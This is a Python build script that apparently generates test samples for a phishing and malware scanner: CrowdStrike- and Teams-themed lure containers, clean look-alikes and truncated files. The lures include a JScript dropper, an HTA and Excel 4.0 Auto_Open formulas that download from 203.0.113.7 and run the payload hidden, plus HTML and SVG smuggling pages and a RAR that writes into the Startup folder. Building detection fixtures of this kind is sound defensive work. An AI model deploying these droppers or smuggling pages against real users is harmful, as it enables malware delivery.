#!/usr/bin/env python3
"""Build the container samples of issue 16 (RAR, CAB, MSU) and 13 (disk images): lures, clean look-alikes, bad variants.

Harmless like every scamscan sample: the "installers" are the synthetic scripts and PE stubs of the
other build scripts.  RAR is written by `rar5write.py` (no installable tool writes RAR); CAB and MSU by
Debian's `gcab` (build time only; member times pinned, so rebuilds are byte-identical).  Disk images
(FAT, MBR, GPT, VHD, VHDX) by `diskwrite.py`; the NTFS volume by ntfs-3g's `mkntfs` and `ntfscp`
(build time only; times pinned).

    python samples/build_containers.py           # (re)write the samples
    python samples/build_containers.py --check   # exit 1 if a rebuild would change a file
"""

from __future__ import annotations

import base64
import io
import os
import struct
import subprocess
import sys
import tempfile
from datetime import UTC, datetime
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
import diskwrite  # noqa: E402
import sampleio  # noqa: E402
from build import MARK, make_zip  # noqa: E402
from build_mail import CRADLE, EPOCH, README  # noqa: E402
from rar5write import rar5  # noqa: E402

HOTFIX_EXE = (HERE / "lures" / "pe" / "CrowdStrike_Falcon_Hotfix.exe").read_bytes()
DRIVER_INF = (f"; Contoso printer driver package\r\n; {MARK}\r\n[Version]\r\nSignature=\"$Windows NT$\"\r\n"
              "Class=Printer\r\nProvider=%Contoso%\r\nDriverVer=07/19/2024,1.2.0.0\r\n").encode()


def cab(members: list[tuple[str, bytes]], compress: bool = True) -> bytes:
    """A CAB written by gcab, members in order, their times pinned to EPOCH."""
    with tempfile.TemporaryDirectory() as tmp:
        names = []
        for name, data in members:
            path = Path(tmp, name)
            path.write_bytes(data)
            os.utime(path, (EPOCH, EPOCH))
            names.append(name)
        out = Path(tmp, "out.cab")
        subprocess.run(["gcab", "-c", *(["-z"] if compress else []), str(out), *names], cwd=tmp, check=True)
        return out.read_bytes()


def smuggling_page(payload: bytes, name: str) -> bytes:
    """A "your download is ready" page that carries `payload` as base64 and saves it through a Blob."""
    b64 = base64.b64encode(payload).decode()
    lines = "\n".join(b64[i:i + 76] for i in range(0, len(b64), 76))
    return (f"""<!DOCTYPE html>
<html><head><title>CrowdStrike Falcon - hotfix download</title></head>
<body><!-- {MARK} -->
<h1>Your Falcon sensor hotfix is downloading...</h1>
<p>If the download does not start, click <a id="dl" href="#">here</a>.</p>
<script>
var data = `{lines}`;
var raw = atob(data.replace(/\\n/g, ''));
var bytes = new Uint8Array(raw.length);
for (var i = 0; i < raw.length; i++) {{ bytes[i] = raw.charCodeAt(i); }}
var blob = new Blob([bytes], {{type: 'application/octet-stream'}});
var a = document.getElementById('dl');
a.href = URL.createObjectURL(blob);
a.download = '{name}';
a.click();
</script></body></html>
""").encode()


def smuggling_svg(payload: bytes, name: str) -> bytes:
    """An SVG "image" whose script builds `payload` from a byte array and saves it (msSaveOrOpenBlob)."""
    numbers = ",".join(str(b) for b in payload)
    return (f"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="400" height="120">
<!-- {MARK} -->
<text x="10" y="40">Microsoft Teams update - opening...</text>
<script type="application/ecmascript"><![CDATA[
var b = new Blob([new Uint8Array([{numbers}])], {{type: "application/zip"}});
if (window.navigator.msSaveOrOpenBlob) {{ window.navigator.msSaveOrOpenBlob(b, "{name}"); }}
else {{ var a = document.createElementNS("http://www.w3.org/1999/xhtml", "a");
  a.href = URL.createObjectURL(b); a.download = "{name}"; a.click(); }}
]]></script></svg>
""").encode()


WSH_DROPPER = f"""// Falcon sensor update helper
// {MARK}
var url = "http://203.0.113.7/falcon/FalconSensorUpdate.exe";
var path = new ActiveXObject("WScript.Shell").ExpandEnvironmentStrings("%TEMP%") + "\\FalconSensorUpdate.exe";
var http = new ActiveXObject("MSXML2.XMLHTTP");
http.open("GET", url, false);
http.send();
var stream = new ActiveXObject("ADODB.Stream");
stream.Type = 1;
stream.Open();
stream.Write(http.responseBody);
stream.SaveToFile(path, 2);
stream.Close();
new ActiveXObject("WScript.Shell").Run(path, 0, false);
""".replace("\n", "\r\n").encode()

# A 1x1 transparent PNG, as newsletters inline their spacer and logo images.
PIXEL_PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                          "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082")
NEWSLETTER = f"""<!DOCTYPE html>
<html><head><title>Contoso newsletter - July</title></head>
<body><!-- {MARK} -->
<p><img alt="Contoso" width="1" height="1" src="data:image/png;base64,{base64.b64encode(PIXEL_PNG).decode()}"></p>
<h1>July news</h1><p>The printer driver 1.2 is out; your IT department will roll it out next week.</p>
<p><a href="https://www.example.com/news" download="july-news.pdf">Read the full newsletter</a></p>
</body></html>
""".encode()


def encrypt_ooxml(document: bytes, password: str) -> bytes:
    """ECMA-376 agile encryption by msoffcrypto-tool, its random salts and keys pinned (reproducible)."""
    import hashlib
    from unittest import mock

    from msoffcrypto.format.ooxml import OOXMLFile

    state = [hashlib.sha256(password.encode()).digest()]

    def det(n: int) -> bytes:
        out = b""
        while len(out) < n:
            state[0] = hashlib.sha256(state[0]).digest()
            out += state[0]
        return out[:n]

    out = io.BytesIO()
    import msoffcrypto.method.container.ecma376_encrypted as container

    fixed = mock.Mock(wraps=datetime)
    fixed.now.return_value = datetime.fromtimestamp(EPOCH, UTC).replace(tzinfo=None)
    with mock.patch("msoffcrypto.method.ecma376_agile._random_buffer", det), \
            mock.patch.object(container, "datetime", fixed):
        OOXMLFile(io.BytesIO(document)).encrypt(password, out)
    return out.getvalue()


def mail_with_attachment(subject: str, body: str, name: str, data: bytes) -> bytes:
    b64 = base64.encodebytes(data).decode().replace("\n", "\r\n")
    return (f"From: Dana Finance <dana@contoso.example>\r\nTo: team@contoso.example\r\nSubject: {subject}\r\n"
            "Date: Fri, 19 Jul 2024 09:12:00 +0000\r\nMessage-ID: <budget-0719@contoso.example>\r\n"
            "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n"
            f"--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n"
            "--b1\r\nContent-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet;"
            f" name=\"{name}\"\r\n"
            f"Content-Disposition: attachment; filename=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            f"{b64}--b1--\r\n").encode()


ONENOTE_HEADER = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")  # the .one file format GUID
FILE_DATA_HEADER = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
FILE_DATA_FOOTER = bytes.fromhex("22a7fb71790f0b4abb13899256426b24")
OPEN_HTA = ("<html><head><title>Falcon sensor document viewer</title>\r\n"
            f"<!-- {MARK} -->\r\n"
            '<script language="VBScript">\r\n'
            'Set sh = CreateObject("WScript.Shell")\r\n'
            'sh.Run "powershell -w hidden -c ""iwr http://203.0.113.7/falcon/fix.ps1 -UseBasicParsing | iex""", 0\r\n'
            "window.close\r\n"
            "</script></head><body>Loading document...</body></html>\r\n").encode()


def onenote(files: list[bytes]) -> bytes:
    """A minimal stand-in for a OneNote section: the file-format GUID, a zeroed header, then one
    FileDataStoreObject (MS-ONESTORE 2.6.13) per embedded file.  Not a section OneNote itself would
    open (no page tree), but byte for byte what the extractor and the lure waves' files share."""
    out = bytearray(ONENOTE_HEADER + bytes(1024 - 16))
    for data in files:
        out += FILE_DATA_HEADER + struct.pack("<Q", len(data)) + bytes(12) + data + bytes(-len(data) % 8)
        out += FILE_DATA_FOOTER
    return bytes(out)


def xlm_workbook(formulas: list[str], auto_open: bool) -> bytes:
    """An .xlsm whose Excel 4.0 macro sheet "Macro1" holds `formulas` in column A, named
    `_xlnm.Auto_Open` when `auto_open` (how XLM lures run on open)."""
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rel = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    names = ('<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>'
             "</definedNames>") if auto_open else ""
    rows = "".join(f'<row r="{n}"><c r="A{n}"><f>{f.replace("&", "&amp;").replace("<", "&lt;")}</f></c></row>'
                   for n, f in enumerate(formulas, 1))
    return make_zip([
        ("[Content_Types].xml", (b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats'
                                 b'.org/package/2006/content-types"><Default Extension="xml" ContentType="application/'
                                 b'xml"/>'
                                 b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.'
                                 b'macroEnabled.main+xml"/><Override PartName="/xl/macrosheets/sheet1.xml" ContentType='
                                 b'"application/vnd.ms-excel.macrosheet+xml"/></Types>')),
        ("xl/workbook.xml", (f'<?xml version="1.0" encoding="UTF-8"?><workbook {ns} {rel}><sheets>'
                             f'<sheet name="Macro1" sheetId="1" r:id="rId1"/></sheets>{names}</workbook>').encode()),
        ("xl/_rels/workbook.xml.rels", (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
                                        b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type='
                                        b'"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target='
                                        b'"macrosheets/sheet1.xml"/></Relationships>')),
        ("xl/macrosheets/sheet1.xml", (f'<?xml version="1.0" encoding="UTF-8"?><xm:macrosheet {ns} '
                                       'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
                                       f"<sheetData>{rows}</sheetData></xm:macrosheet>").encode()),
    ])


def ntfs(files: list[tuple[str, bytes]], hidden: int = 63) -> bytes:
    """A 2 MiB NTFS volume written by ntfs-3g's mkntfs and ntfscp (build time only).  mkntfs -T pins
    its own times; ntfscp stamps the clock into each file's records, so every FILETIME within a
    day of now is set to EPOCH: rebuilds are byte-identical."""
    with tempfile.TemporaryDirectory() as tmp:
        image = Path(tmp, "ntfs.img")
        image.write_bytes(bytes(2 * 1024 * 1024))
        subprocess.run(["mkntfs", "-F", "-Q", "-q", "-T", "-s", "512", "-c", "512", "-p", str(hidden), "-H", "16",
                        "-S", "63", "-L", "FALCONFIX", str(image)], check=True, capture_output=True)
        for name, data in files:
            Path(tmp, "member").write_bytes(data)
            subprocess.run(["ntfscp", str(image), str(Path(tmp, "member")), name], check=True, capture_output=True)
        volume = bytearray(image.read_bytes())
    now = int((datetime.now(UTC).timestamp() + 11644473600) * 10**7)
    pinned = struct.pack("<Q", int((EPOCH + 11644473600) * 10**7))
    for at in range(0, len(volume) - 7):
        if abs(struct.unpack_from("<Q", volume, at)[0] - now) < 864 * 10**9:  # a day, in 100 ns units
            volume[at:at + 8] = pinned
    return bytes(volume)


def disk_images() -> dict[str, bytes]:
    """Issue 13: the hotfix EXE in disk images Windows mounts with a double click (and a raw FAT
    image), a clean look-alike, and damaged ones."""
    hotfix = [("CrowdStrike_Falcon_Hotfix.exe", HOTFIX_EXE), ("README.txt", README)]
    volume = diskwrite.fat12(hotfix, hidden=63, label=b"FALCONFIX")
    disk = diskwrite.mbr([volume])
    dynamic = diskwrite.vhd_dynamic(disk)
    clean = diskwrite.fat12([("contoso.inf", DRIVER_INF), ("readme.txt", README)], label=b"CONTOSO")
    return {
        "lures/containers/falcon_hotfix.img": diskwrite.fat12(hotfix, label=b"FALCONFIX"),
        "lures/containers/falcon_hotfix_fixed.vhd": diskwrite.vhd_fixed(disk),
        "lures/containers/falcon_hotfix_dynamic.vhd": dynamic,
        "lures/containers/falcon_hotfix.vhdx": diskwrite.vhdx(disk),
        "clean/containers/contoso_driver_disk.img": clean,
        "clean/containers/contoso_driver_disk.vhd": diskwrite.vhd_dynamic(diskwrite.mbr([
            diskwrite.fat12([("contoso.inf", DRIVER_INF), ("readme.txt", README)], hidden=63, label=b"CONTOSO")])),
        "lures/containers/falcon_hotfix_ntfs.vhd": diskwrite.vhd_dynamic(diskwrite.mbr([ntfs(hotfix)], ptype=0x07)),
        "bad/containers/truncated.vhd": dynamic[:len(dynamic) // 2],
        "bad/containers/block_table_outside.vhd": diskwrite.vhd_dynamic(disk, bat_override={0: 0x7FFFFF00}),
    }


def build() -> dict[str, bytes]:
    s: dict[str, bytes] = {}
    hotfix_rar = rar5([("hotfix/install.ps1", CRADLE), ("hotfix/README.txt", README)])
    s["lures/containers/falcon_hotfix.rar"] = hotfix_rar
    s["lures/containers/falcon_hotfix_traversal.rar"] = rar5([
        ("../../AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/install.ps1", CRADLE),
        ("README.txt", README)])
    hotfix_cab = cab([("CrowdStrike_Falcon_Hotfix.exe", HOTFIX_EXE), ("install.ps1", CRADLE)])
    s["lures/containers/falcon_hotfix.cab"] = hotfix_cab
    s["lures/containers/windows10.0-kb5040442-x64.msu"] = cab(
        [("Windows10.0-KB5040442-x64.cab", hotfix_cab), ("WSUSSCAN.cab", cab([("wsusscan.txt", README)]))],
        compress=False)
    s["clean/containers/contoso_printer_driver.cab"] = cab([("contoso.inf", DRIVER_INF), ("readme.txt", README)])
    s["clean/containers/contoso_printer_driver.rar"] = rar5([("contoso.inf", DRIVER_INF), ("readme.txt", README)])
    hotfix_zip = make_zip([("CrowdStrike_Falcon_Hotfix.exe", HOTFIX_EXE), ("install.ps1", CRADLE)])
    s["lures/containers/falcon_hotfix_download.html"] = smuggling_page(hotfix_zip, "falcon_hotfix.zip")
    s["lures/containers/teams_update_invoice.svg"] = smuggling_svg(
        make_zip([("TeamsUpdate.ps1", CRADLE)]), "TeamsUpdate.zip")
    s["lures/containers/falcon_update_dropper.js"] = WSH_DROPPER
    s["clean/containers/newsletter_inline_image.html"] = NEWSLETTER
    xlsm = (HERE / "lures" / "docs" / "falcon_sensor_update.xlsm").read_bytes()
    budget = (HERE / "clean" / "docs" / "budget.xlsx").read_bytes()
    s["lures/containers/falcon_sensor_update_velvet.xlsm"] = encrypt_ooxml(xlsm, "VelvetSweatshop")
    s["clean/containers/budget_encrypted_mail.eml"] = mail_with_attachment(
        "Q3 budget", f"Hi team,\r\n\r\nthe Q3 budget is attached, password-protected as usual.\r\n"
        f"Password: Budget-2024\r\n\r\nDana\r\n({MARK})", "Q3_budget.xlsx", encrypt_ooxml(budget, "Budget-2024"))
    s["bad/containers/encrypted_unknown_password.xlsx"] = encrypt_ooxml(budget, "nobody-knows-7731")
    falcon_one = onenote([PIXEL_PNG, OPEN_HTA])
    s["lures/containers/falcon_hotfix_notes.one"] = falcon_one
    s["clean/containers/team_meeting_notes.one"] = onenote([PIXEL_PNG, DRIVER_INF])
    s["bad/containers/truncated.one"] = falcon_one[: len(falcon_one) - 200]
    s["lures/containers/falcon_invoice_xlm.xlsm"] = xlm_workbook([
        'EXEC("powershell -w hidden -c ""iwr http://203.0.113.7/falcon/fix.ps1 | iex""")',
        'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://203.0.113.7/f.exe","C:\\Users\\Public\\f.exe",0,0)',
        "HALT()"], auto_open=True)
    s["clean/containers/budget_macro_sheet.xlsm"] = xlm_workbook(
        ['SELECT("R1C1")', 'FORMULA("Q3 budget")', "RETURN()"], auto_open=False)
    s.update(disk_images())
    s["bad/containers/truncated.rar"] = hotfix_rar[: len(hotfix_rar) // 2]
    s["bad/containers/truncated.cab"] = hotfix_cab[:60]
    return s


def main(argv: list[str] | None = None) -> int:
    return sampleio.main(build, HERE, __doc__ or "", argv)


if __name__ == "__main__":
    sys.exit(main())
